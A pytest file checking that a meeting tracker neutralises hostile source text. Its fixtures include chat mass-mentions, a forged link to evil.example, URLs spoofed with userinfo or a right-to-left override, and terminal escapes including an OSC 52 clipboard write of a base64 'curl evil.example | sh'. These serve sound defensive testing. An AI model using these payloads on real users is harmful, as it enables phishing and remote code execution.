"""Hostile words from a source against what tracker writes from them (an outputs review), through the
real `tracker` command in its own process against recorded Legistar events served on loopback, with
a real SMTP server and a real HTTP receiver standing in for a chat service:

1. a meeting named to ping a whole chat channel ("@everyone", "@channel", "<!here>") or to forge a
   link ("[Vote here](https://…)") reaches chat services as text: no mention, no link;
2. a meeting named with terminal escape sequences (OSC 52 writes the clipboard, CSI clears the
   screen) or a bidirectional override is printed by the CLI with each of them shown as "?";
3. a link that reads as another address (user information before the host, a right-to-left
   override) is no link in any message, page or calendar;
4. a title cut in the middle of an emoji (a lone UTF-16 surrogate in the JSON) costs one character,
   not the meeting.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from markdown import markdown
from servers import Mailbox, Receiver
from test_hostile_inputs import TODAY, hostile_nyc_events, subject, tracker

from tracker.alerts.render import Message
from tracker.alerts.send import fit
from tracker.demo import NYC_ANCHOR, days_since, nyc_events
from tracker.demo.legistar_api import LegistarApi
from tracker.demo.replay import ReplayServer
from tracker.targets import Target

HEARING = "meeting:legistar:nyc:20193"
# a mention a chat service acts on: Discord's and Mattermost's "@everyone"/"@here"/"@channel"/"@all",
# Slack's "<!here>", a user's "<@123>"
MENTION = re.compile(r"(?<![\w\u2060])@(everyone|here|channel|all)\b|<[!@][\w]")


def crawl_hostile(tmp_path: Path, replay: ReplayServer, body: str, notify: list[str], **fields: str) -> Path:
    """The NYC council's recorded events crawled once as a baseline, then again with hearing 20193,
    newly listed, held by a body named `body` (and these Legistar `fields`); alerts to `notify`. The
    config's path."""
    legistar = LegistarApi("/v1")
    replay.mount("/v1", legistar)
    nyc = legistar.client("nyc")
    nyc.add_events(nyc_events(days_since(NYC_ANCHOR, TODAY), later=False))
    config = tmp_path / "tracker.toml"
    targets = ", ".join(f'"{url}"' for url in notify)
    config.write_text(f'[crawl]\ndelay_seconds = 0\n[sources.legistar]\nbase_url = "{replay.url}/v1"\n'
                      '[[meetings]]\nid = "nyc"\nname = "New York City Council"\ntimezone = "America/New_York"\n'
                      'legistar = { client = "nyc", bodies = ["1", "19"] }\n'
                      + (f'[[subscribers]]\nid = "organizer"\nnotify = [{targets}]\n' if notify else ""))
    baseline = tracker(config, "--quiet", "run")
    assert (baseline.returncode, baseline.stderr) == (0, ""), baseline.stderr
    nyc.events.clear()
    events = hostile_nyc_events(body, "Committee Room")
    next(e for e in events if e["EventId"] == 20193).update(fields)
    nyc.add_events(events)
    result = tracker(config, "--quiet", "run")
    assert (result.returncode, result.stderr) == (0, ""), result.stderr
    return config


@pytest.mark.slow
def test_a_meeting_named_to_ping_everyone_or_forge_a_link_reaches_chat_as_text(
        tmp_path: Path, replay: ReplayServer, mailbox: Mailbox) -> None:
    """Mattermost renders every message as Markdown and acts on "@channel"; apprise sends it plain
    text with the title on top. It was posted "… @everyone @channel <!here> [Vote here](https://evil
    .example/) …" as the source wrote it: the whole channel pinged, and a link to the source's choice
    under words of its choice."""
    receiver = Receiver()
    forged = "Committee on Public Safety @everyone @channel <!here> [Vote here](https://evil.example/)"
    mail = f"mailto://127.0.0.1:{mailbox.port}?smtp=127.0.0.1&from=tracker@example.org&to=organizer@example.org"
    crawl_hostile(tmp_path, replay, forged, [mail, f"mmost://127.0.0.1:{receiver.port}/hook-token"])
    posts = [post["text"] for post in receiver.posts if "Vote here" in post.get("text", "")]
    receiver.stop()
    assert len(posts) == 1, receiver.posts
    (text,) = posts
    assert MENTION.search(text) is None, text
    shown = markdown(text)  # as a Markdown service shows it
    assert "evil.example" not in "".join(re.findall(r'href="([^"]*)"', shown)), shown
    assert "@\u2060everyone @\u2060channel" in text  # still said, in the source's words

    # mail is no chat: its subject keeps the source's words as they are
    (subject_line,) = [subject(m) for _, m in mailbox.messages if "Vote here" in subject(m)]
    assert subject_line.startswith(f"Scheduled: {forged}, ")

    # Discord (its webhook host cannot be pointed at loopback): the title apprise puts in its Markdown
    # content, and the body, as fitted for it
    escaped = "Committee on Public Safety @everyone @channel &lt;!here&gt; \\[Vote here\\](https://evil.example/)"
    message = Message(subject_line, f"{forged} scheduled", None, f"**{escaped}** scheduled")
    fitted = fit(message, Target("discord://1234/abcd", "discord://1234/abcd", None), None)
    for said in (fitted.title, fitted.markdown or ""):
        assert MENTION.search(said) is None, said
        assert 'href="https://evil.example/"' not in markdown(said), said
    # a mail service's subject is a title, not Markdown: left as written, no backslash shown
    mailgun = "mailgun://tracker@example.org/key-123/"
    assert "[Vote here](https://evil.example/)" in fit(message, Target(mailgun, mailgun, None), None).title


@pytest.mark.slow
def test_a_meeting_named_with_terminal_escapes_is_printed_as_text(tmp_path: Path, replay: ReplayServer) -> None:
    """`tracker changes` and `tracker status` printed the body's name raw: OSC 52 (ESC ] 52 … BEL)
    sets the clipboard of the operator's terminal to what the source chose, CSI 2J clears the screen,
    U+202E reverses the rest of the line."""
    body = "Committee \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07on \u202eytefaS cilbuP\u202c \x9b2J\x1b[2JSafety"
    config = crawl_hostile(tmp_path, replay, body, [])
    for command in (["changes"], ["status"], ["changes", "--kind", "meeting.added"]):
        result = tracker(config, *command)
        assert result.returncode == 0, result.stderr
        assert "Committee ?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==?on ?ytefaS cilbuP? " in result.stdout, command
        bad = re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", result.stdout + result.stderr)
        assert bad == [], (command, bad)


def test_an_api_s_error_message_with_terminal_escapes_reaches_no_terminal_through_the_log(
        tmp_path: Path, replay: ReplayServer) -> None:
    """A Legistar API answering `{"Message": ...}` with OSC 52 and CSI sequences: the error line is
    the message as text on `--verbose`'s stderr and in `[tracker] log_file` (read with `tail -f`),
    as it already was in the command's own lines; the log wrote it raw, so following the log set
    the operator's clipboard and cleared the screen."""
    said = "no such client \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u202e"
    replay.add("/v1/nyc/events", json=json.dumps({"Message": said}))
    config = tmp_path / "tracker.toml"
    config.write_text(f'[tracker]\nlog_file = "tracker.log"\n[crawl]\ndelay_seconds = 0\n'
                      f'[sources.legistar]\nbase_url = "{replay.url}/v1"\n'
                      '[[meetings]]\nid = "nyc"\nname = "New York City Council"\ntimezone = "America/New_York"\n'
                      'legistar = { client = "nyc" }\n')
    result = tracker(config, "--verbose", "run")
    assert result.returncode == 1
    logged = (tmp_path / "tracker.log").read_text()
    for where, text in (("stderr", result.stderr), ("log file", logged)):
        assert "unexpected answer: no such client ?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==??[2J?" in text, where
        assert re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text) == [], where


@pytest.mark.slow
def test_a_link_that_reads_as_another_address_is_no_link_anywhere(
        tmp_path: Path, replay: ReplayServer, mailbox: Mailbox) -> None:
    """A plain-text message showed "Meeting page: https://nyc.legistar.com@evil.example/…" (it leads
    to evil.example) and "Agenda: https://nyc.legistar1.com/…/agenda\u202efdp.exe" (shown as
    "…agendaexe.pdf"); the digest and the calendar linked to both."""
    receiver = Receiver()
    mail = f"mailto://127.0.0.1:{mailbox.port}?smtp=127.0.0.1&from=tracker@example.org&to=organizer@example.org"
    config = crawl_hostile(
        tmp_path, replay, "Committee on Public Safety", [mail, receiver.url],
        EventInSiteURL="https://nyc.legistar.com@evil.example/MeetingDetail.aspx?LEGID=20193",
        EventAgendaFile="https://nyc.legistar1.com/nyc/meetings/2023/6/20193_A_agenda\u202efdp.exe",
        EventVideoPath="https://councilnyc.viebit.com\\@evil.example/live")
    posts = [post["message"] for post in receiver.posts if "Thu Dec 10" in post.get("title", "")]
    receiver.stop()
    assert len(posts) == 1, receiver.posts
    mails = ["".join(part.get_payload(decode=True).decode() for part in m.walk() if not part.is_multipart())
             for _, m in mailbox.messages if "Thu Dec 10" in subject(m)]
    assert len(mails) == 1
    site = config.parent / "site"
    written = {"webhook": posts[0], "mail": mails[0],
               "digest.txt": (site / "digest.txt").read_text(),
               "calendar": (site / "meetings" / "meeting-legistar-nyc-20193.ics").read_text(),
               "page": (site / "meetings" / "meeting-legistar-nyc-20193.html").read_text(),
               "front page": (site / "index.html").read_text()}
    assert "Committee on Public Safety" in written["page"]
    for name, text in written.items():
        assert "evil.example" not in text and "\u202e" not in text and "fdp.exe" not in text, name


@pytest.mark.slow
def test_a_title_cut_in_the_middle_of_an_emoji_costs_a_character_not_the_meeting(
        tmp_path: Path, replay: ReplayServer, mailbox: Mailbox) -> None:
    """A source that cuts text at a length counted in UTF-16 units (as .NET does) leaves half an
    emoji, which its JSON writes as a lone "\\ud83d". No UTF-8 writer can encode that: the meeting
    was not stored ("could not store: UnicodeEncodeError"), so it was in no digest, calendar or
    alert, and the source's run was an error (an operator's "source failing" mail after a few)."""
    mail = f"mailto://127.0.0.1:{mailbox.port}?smtp=127.0.0.1&from=tracker@example.org&to=organizer@example.org"
    body = "Committee on Public Safety \U0001f6a8 Budget Oversight \ud83d"
    assert "\\ud83d" in json.dumps(body)  # what the source's JSON holds
    config = crawl_hostile(tmp_path, replay, body, [mail])
    shown = "Committee on Public Safety \U0001f6a8 Budget Oversight \ufffd"
    assert any(subject(m).startswith(f"Scheduled: {shown}, ") for _, m in mailbox.messages), mailbox.subjects
    site = config.parent / "site"
    assert shown in (site / "meetings" / "meeting-legistar-nyc-20193.html").read_text()
    assert shown in (site / "meetings.ics").read_bytes().decode().replace("\r\n ", "")
